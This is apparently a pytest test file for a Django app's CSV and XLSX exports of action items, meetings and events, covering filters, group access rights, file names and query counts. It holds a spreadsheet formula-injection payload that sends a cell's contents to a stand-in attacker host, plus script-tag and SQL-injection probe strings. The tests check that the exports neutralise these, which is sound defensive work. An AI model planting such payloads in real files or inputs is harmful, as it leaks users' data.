"""The lists of action items, meetings and events as CSV and XLSX, as a secretariat officer or a
member downloads them from the list pages.

Every file is read back as a spreadsheet reads it: CSV with Python's csv module after the UTF-8
BOM, XLSX with openpyxl.
"""

import csv
import datetime
import io
import re

import pytest
import time_machine
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from coordination.models import ActionItem, Event, Meeting
from tests import factories

pytestmark = pytest.mark.django_db

NOW = datetime.datetime(2026, 11, 26, 10, 0, tzinfo=datetime.UTC)
PAYLOAD = '=HYPERLINK("http://attacker.invalid/?leak="&A2,"see")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

ACTION_ITEM_HEADER = [
    "No.", "Action item", "Group", "Meeting", "Owners", "Status", "Due on", "Deadline",
    "Waiting on", "Created", "Status changed", "Closed", "Link",
]  # fmt: skip
MEETING_HEADER = [
    "No.", "Group", "Meeting", "Starts on", "Ends on", "Dates", "Place", "Status", "Decisions",
    "Open action points", "Link",
]  # fmt: skip
EVENT_HEADER = [
    "Event", "Upcoming or past", "Starts on", "Ends on", "Dates", "Place", "Description",
    "Groups told", "Days' notice", "Link",
]  # fmt: skip
TITLE, STATUS, DUE_ON, DEADLINE = 1, 5, 6, 7  # columns of the action items


SITE = "https://coordination.alliance87.org"


@pytest.fixture(autouse=True)
def _now_and_site(settings):
    settings.SITE_URL = SITE + "/"
    with time_machine.travel(NOW, tick=False):
        yield


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads accents right
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_cells(response):
    """Every cell of the first sheet, row by row, as openpyxl reads the file."""
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows()]


def xlsx_values(response):
    return [[cell.value for cell in row] for row in xlsx_cells(response)]


def export(client, name, extension, query="", args=()):
    url = reverse(name, args=[*args, extension])
    return client.get(f"{url}?{query}" if query else url)


def titles_on_page(client, query=""):
    """The titles of the action items the list page shows for this query (a string or a dict)."""
    url = reverse("action_item_list")
    response = client.get(url, query) if isinstance(query, dict) else client.get(f"{url}?{query}")
    html = response.content.decode()
    return set(re.findall(r'<a href="/actions/\d+/">([^<]*)</a>', html))


# --- action items -----------------------------------------------------------------------------


@pytest.fixture
def items(gcg, other_group, gcg_member):
    """GCG items in every status, one overdue, one the member owns by name; one of another
    group."""
    meeting = factories.MeetingFactory(group=gcg, number=3)
    other_meeting = factories.MeetingFactory(group=gcg, number=2)
    member = gcg_member.person
    made = {
        "open": factories.ActionItemFactory(title="Circulate the draft", meeting=meeting),
        "overdue": factories.ActionItemFactory(
            title="Send the list of focal points",
            meeting=meeting,
            due_on=datetime.date(2026, 11, 1),
        ),
        "in progress": factories.ActionItemFactory(
            title="Draft the work plan", meeting=other_meeting, status="in_progress"
        ),
        "done": factories.ActionItemFactory(
            title="Book the room",
            meeting=meeting,
            status="done",
            status_changed_at=datetime.datetime(2026, 10, 5, 15, 30, tzinfo=datetime.UTC),
        ),
        "dropped": factories.ActionItemFactory(
            title="Print the agenda", meeting=other_meeting, status="dropped"
        ),
        "mine": factories.ActionItemFactory(title="Write to the ministry", meeting=meeting),
        "other group": factories.ActionItemFactory(
            title="Migration survey", meeting=factories.MeetingFactory(group=other_group)
        ),
    }
    made["mine"].owner_people.add(member)
    return made


@pytest.mark.parametrize(
    "query",
    [
        "",
        "status=done",
        "status=all",
        "overdue=on",
        "mine=on",
        "status=all&meeting={meeting}",
        "status=all&mine=on&page=2",
        "status=nonsense",  # not a status: the page says so and lists the open items
        "meeting=999999",
    ],
)
def test_the_export_has_exactly_the_items_the_page_shows_for_the_same_query(
    client, items, gcg_member, query
):
    query = query.format(meeting=items["in progress"].meeting_id)
    query_without_page = re.sub(r"&?page=\d+", "", query)
    client.force_login(gcg_member)
    shown = titles_on_page(client, query_without_page)
    assert shown  # every query shows something to compare
    assert "Migration survey" not in shown

    rows = csv_rows(export(client, "action_item_export", "csv", query))
    assert rows[0] == ACTION_ITEM_HEADER
    assert {row[TITLE] for row in rows[1:]} == shown
    assert len(rows) - 1 == len(shown)
    cells = xlsx_values(export(client, "action_item_export", "xlsx", query))
    assert [row[TITLE] for row in cells[1:]] == [row[TITLE] for row in rows[1:]]  # same order


def test_the_filters_narrow_the_export(client, items, secretariat):
    client.force_login(secretariat)
    group = f"group={items['open'].meeting.group_id}"
    titles = {
        query: {row[TITLE] for row in csv_rows(export(client, "action_item_export", "csv", query))}
        for query in ("", "status=done", "overdue=on", group)
    }
    assert titles["status=done"] == {"Action item", "Book the room"}
    assert titles["overdue=on"] == {"Action item", "Send the list of focal points"}
    assert "Migration survey" in titles[""]
    assert "Migration survey" not in titles[group]
    assert "Circulate the draft" in titles[group]


def test_a_member_never_exports_another_groups_items(client, items, outsider):
    client.force_login(outsider)
    rows = csv_rows(export(client, "action_item_export", "csv", "status=all"))
    assert [row[TITLE] for row in rows[1:]] == ["Migration survey"]
    # naming the other group's meeting or group filters nothing in: not a choice the form has
    meeting = items["open"].meeting_id
    for query in (
        f"status=all&meeting={meeting}",
        f"status=all&group={items['open'].meeting.group_id}",
    ):
        rows = csv_rows(export(client, "action_item_export", "csv", query))
        assert "Circulate the draft" not in {row[TITLE] for row in rows[1:]}


def test_an_action_item_row_as_a_secretariat_officer_reads_it(client, items, secretariat):
    item = items["done"]
    item.owner_groups.add(item.meeting.group)
    secretariat.time_zone = "America/New_York"
    secretariat.save()
    client.force_login(secretariat)

    rows = csv_rows(export(client, "action_item_export", "csv", "status=done"))
    assert rows[1] == [
        str(item.pk),
        "Book the room",
        "GCG",
        "3rd GCG meeting",
        "Global Coordinating Group",
        "Done",
        "2030-01-01",
        "was due on 1 January 2030",
        "",
        "2026-11-26 05:00:00",  # created NOW, in New York
        "2026-10-05 11:30:00",
        "2026-10-05 11:30:00",
        f"{SITE}/actions/{item.pk}/",
    ]
    cells = xlsx_cells(export(client, "action_item_export", "xlsx", "status=done"))
    number, due_on, closed = cells[1][0], cells[1][DUE_ON], cells[1][11]
    assert (number.value, number.data_type) == (item.pk, "n")
    assert due_on.is_date and due_on.value == datetime.datetime(2030, 1, 1)
    assert closed.is_date and closed.value == datetime.datetime(2026, 10, 5, 11, 30)


def test_the_deadline_is_worded_as_on_the_page(client, items, gcg_member):
    client.force_login(gcg_member)
    rows = csv_rows(export(client, "action_item_export", "csv", "overdue=on"))
    assert rows[1][DEADLINE] == "overdue since 1 November 2026"
    assert (
        "overdue since 1 November 2026" in client.get(reverse("action_item_list")).content.decode()
    )
    item = factories.ActionItemFactory(
        title="Comment on the revised draft",
        meeting=items["open"].meeting,
        due_on=None,
        due_days_after_trigger=14,
        trigger="receipt of the revised draft",
    )
    rows = csv_rows(export(client, "action_item_export", "csv"))
    (row,) = [row for row in rows if row[TITLE] == item.title]
    assert row[DUE_ON] == ""
    assert row[DEADLINE] == "due 14 days after receipt of the revised draft"


def test_a_title_like_a_formula_is_text_in_both_files(client, items, gcg_member):
    factories.ActionItemFactory(title=PAYLOAD, meeting=items["open"].meeting)
    client.force_login(gcg_member)
    rows = csv_rows(export(client, "action_item_export", "csv"))
    assert "'" + PAYLOAD in [row[TITLE] for row in rows]
    cells = xlsx_cells(export(client, "action_item_export", "xlsx"))
    (title,) = [row[TITLE] for row in cells if row[TITLE].value == PAYLOAD]
    assert title.data_type == "s"
    assert not [cell for row in cells for cell in row if cell.data_type == "f"]


def test_the_files_are_named_for_the_list_and_the_day(client, gcg, gcg_member):
    client.force_login(gcg_member)
    for name, args, stem in [
        ("action_item_export", (), "action-items"),
        ("meeting_export", (), "meetings"),
        ("group_meeting_export", (gcg.slug,), "meetings-gcg"),
        ("event_export", (), "events"),
    ]:
        for extension in ("csv", "xlsx"):
            response = export(client, name, extension, args=args)
            assert response.status_code == 200
            assert (
                response["Content-Disposition"]
                == f'attachment; filename="{stem}-2026-11-26.{extension}"'
            )
            b"".join(response.streaming_content)  # the test client closes it at the end


# --- meetings ---------------------------------------------------------------------------------


def test_meetings_with_their_decisions_and_open_action_points(client, gcg, other_group, gcg_member):
    meeting = factories.MeetingFactory(
        group=gcg,
        number=3,
        venue="Palais des Nations",
        city="Geneva",
        starts_on=datetime.date(2018, 11, 28),
        ends_on=datetime.date(2018, 11, 29),
    )
    planned = factories.MeetingFactory(
        group=gcg,
        number=4,
        starts_on=None,
        ends_on=None,
        status=Meeting.Status.PLANNED,
        dates_note="March or April 2019, tbc",
    )
    factories.MeetingFactory(group=other_group, number=1)
    for _ in range(2):
        factories.DecisionFactory(meeting=meeting)
    factories.ActionItemFactory(meeting=meeting)
    factories.ActionItemFactory(meeting=meeting, status="in_progress")
    factories.ActionItemFactory(meeting=meeting, status="done")
    client.force_login(gcg_member)

    rows = csv_rows(export(client, "meeting_export", "csv"))
    assert rows == [
        MEETING_HEADER,
        ["4", "GCG", "4th GCG meeting", "", "", "March or April 2019, tbc", "Geneva", "Planned",
         "0", "0", f"{SITE}/meetings/{planned.pk}/"],
        ["3", "GCG", "3rd GCG meeting", "2018-11-28", "2018-11-29", "28–29 November 2018",
         "Palais des Nations, Geneva", "Held", "2", "2",
         f"{SITE}/meetings/{meeting.pk}/"],
    ]  # fmt: skip
    cells = xlsx_cells(export(client, "group_meeting_export", "xlsx", args=[gcg.slug]))
    assert [cell.value for cell in cells[2]][:5] == [
        3, "GCG", "3rd GCG meeting",
        datetime.datetime(2018, 11, 28), datetime.datetime(2018, 11, 29),
    ]  # fmt: skip
    assert (cells[2][8].value, cells[2][8].data_type) == (2, "n")


def test_a_member_never_exports_another_groups_meetings(client, gcg, other_group, gcg_member):
    factories.MeetingFactory(group=gcg, number=1)
    factories.MeetingFactory(group=other_group, number=7)
    client.force_login(gcg_member)
    rows = csv_rows(export(client, "meeting_export", "csv"))
    assert [row[2] for row in rows[1:]] == ["1st GCG meeting"]
    # another group's meetings page and its export are not the member's
    assert client.get(reverse("group_meetings", args=[other_group.slug])).status_code == 404
    assert export(client, "group_meeting_export", "csv", args=[other_group.slug]).status_code == 404


def test_a_meeting_title_like_a_formula_is_text(client, secretariat):
    """Titles are made of the group's short name, which the admin types."""
    group = factories.GroupFactory(short_name="@SUM(1+1)")
    factories.MeetingFactory(group=group, number=1)
    client.force_login(secretariat)
    rows = csv_rows(export(client, "meeting_export", "csv"))
    assert rows[1][1:3] == ["'@SUM(1+1)", "1st @SUM(1+1) meeting"]
    cells = xlsx_cells(export(client, "meeting_export", "xlsx"))
    assert (cells[1][1].value, cells[1][1].data_type) == ("@SUM(1+1)", "s")


# --- events -----------------------------------------------------------------------------------


def test_events_as_the_page_shows_them(client, gcg, other_group, gcg_member):
    forum = factories.EventFactory(
        title="NGO Forum",
        starts_on=datetime.date(2027, 2, 3),
        ends_on=datetime.date(2027, 2, 4),
        city="New York",
        description="=1+1 and *more*",
    )
    forum.notify_groups.add(gcg)
    factories.EventFactory(title="HLPF", starts_on=datetime.date(2027, 7, 10))  # every member's
    factories.EventFactory(title="Expert group meeting", starts_on=datetime.date(2025, 5, 6))
    factories.EventFactory(title="Migration workshop").notify_groups.add(other_group)
    client.force_login(gcg_member)

    rows = csv_rows(export(client, "event_export", "csv"))
    assert rows[0] == EVENT_HEADER
    assert [row[:2] for row in rows[1:]] == [
        ["NGO Forum", "Upcoming"],
        ["HLPF", "Upcoming"],
        ["Expert group meeting", "Past"],
    ]
    assert rows[1][2:] == [
        "2027-02-03", "2027-02-04", "3–4 February 2027", "New York", "'=1+1 and *more*", "GCG",
        "30", f"{SITE}/events/#event-{forum.pk}",
    ]  # fmt: skip
    page = client.get(reverse("event_list")).content.decode()
    assert all(title in page for title in ("NGO Forum", "HLPF", "Expert group meeting"))
    assert "Migration workshop" not in page
    cells = xlsx_cells(export(client, "event_export", "xlsx"))
    assert [row[0].value for row in cells[1:]] == ["NGO Forum", "HLPF", "Expert group meeting"]
    assert (cells[1][6].value, cells[1][6].data_type) == ("=1+1 and *more*", "s")


# --- who may, and what it costs ---------------------------------------------------------------

EXPORTS = [
    (name, extension)
    for name in ("action_item_export", "meeting_export", "event_export")
    for extension in ("csv", "xlsx")
]


@pytest.mark.parametrize(("name", "extension"), EXPORTS)
def test_anonymous_visitors_are_sent_to_sign_in(client, name, extension):
    response = export(client, name, extension)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login") + "?next=")


@pytest.mark.parametrize(("name", "extension"), EXPORTS)
def test_an_account_without_a_membership_gets_a_403(client, no_membership, name, extension):
    client.force_login(no_membership)
    assert export(client, name, extension).status_code == 403


@pytest.mark.parametrize("value", ["", "-1", "abc", "<script>", "9" * 30, "%00", "' OR 1=1 --"])
def test_junk_in_the_query_is_left_out_as_on_the_page(client, items, gcg_member, value):
    client.force_login(gcg_member)
    open_items = {"Circulate the draft", "Send the list of focal points", "Draft the work plan",
                  "Write to the ministry"}  # fmt: skip
    for name in ("status", "meeting", "group", "mine", "overdue", "page"):
        query = {name: value}
        rows = csv_rows(client.get(reverse("action_item_export", args=["csv"]), query))
        titles = {row[TITLE] for row in rows[1:]}
        assert titles == titles_on_page(client, query)
        if name not in ("mine", "overdue"):  # any value ticks a box
            assert titles == open_items, query
        for export_name in ("meeting_export", "event_export"):
            response = client.get(reverse(export_name, args=["xlsx"]), {name: value})
            assert xlsx_cells(response)[0][0].value in ("No.", "Event")


def test_another_format_is_not_found(client, gcg_member):
    client.force_login(gcg_member)
    assert client.get("/actions/export.pdf").status_code == 404


@pytest.mark.parametrize(("name", "extension"), EXPORTS)
@pytest.mark.parametrize("reader", ["secretariat", "gcg_member"])
def test_the_queries_do_not_grow_with_the_rows(client, request, gcg, name, extension, reader):
    client.force_login(request.getfixturevalue(reader))
    people = [factories.MembershipFactory(group=gcg).person for _ in range(3)]

    def add(n):
        for _ in range(n):
            meeting = factories.MeetingFactory(group=gcg)
            factories.DecisionFactory(meeting=meeting)
            item = factories.ActionItemFactory(meeting=meeting, status="open")
            item.owner_people.add(*people)
            item.owner_groups.add(gcg)
            event = factories.EventFactory(starts_on=datetime.date(2027, 1, 1))
            event.notify_groups.add(gcg)
            factories.EventFactory(starts_on=datetime.date(2020, 1, 1))

    def count():
        with CaptureQueriesContext(connection) as queries:
            response = export(client, name, extension)
            body = b"".join(response.streaming_content)
        return len(queries), body

    add(5)
    few, _ = count()
    add(45)
    many, body = count()
    assert many == few <= 8  # the session, the user, the rows, their owners or groups
    if extension == "csv":
        rows = body.decode("utf-8-sig").count("\r\n") - 1
        assert rows == (100 if name == "event_export" else 50)


# --- the links on the pages -------------------------------------------------------------------


def test_the_list_pages_link_to_their_exports_with_the_current_filters(client, gcg, gcg_member):
    client.force_login(gcg_member)
    page = client.get(reverse("action_item_list") + "?status=done&mine=on&page=1").content.decode()
    assert 'href="/actions/export.csv?status=done&amp;mine=on"' in page
    assert 'href="/actions/export.xlsx?status=done&amp;mine=on"' in page
    assert "Download CSV" in page and "Download XLSX" in page
    assert 'href="/meetings/export.xlsx"' in client.get(reverse("meeting_list")).content.decode()
    group_page = client.get(reverse("group_meetings", args=[gcg.slug])).content.decode()
    assert 'href="/groups/gcg/meetings/export.csv"' in group_page
    assert 'href="/events/export.csv"' in client.get(reverse("event_list")).content.decode()


# --- the admin --------------------------------------------------------------------------------


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_the_admin_exports_the_selected_action_items(client, items, secretariat, extension):
    client.force_login(secretariat)
    chosen = [items["done"], items["other group"]]
    response = client.post(
        reverse("admin:coordination_actionitem_changelist"),
        {
            "action": f"export_{extension}",
            ACTION_CHECKBOX_NAME: [item.pk for item in chosen],
        },
    )
    if extension == "csv":
        rows = csv_rows(response)
        titles = [row[TITLE] for row in rows[1:]]
        assert rows[0] == ACTION_ITEM_HEADER
    else:
        titles = [row[TITLE] for row in xlsx_values(response)[1:]]
    assert sorted(titles) == ["Book the room", "Migration survey"]
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="action-items-2026-11-26.{extension}"'
    )
    assert ActionItem.objects.count() == 7
    assert Event.objects.count() == 0
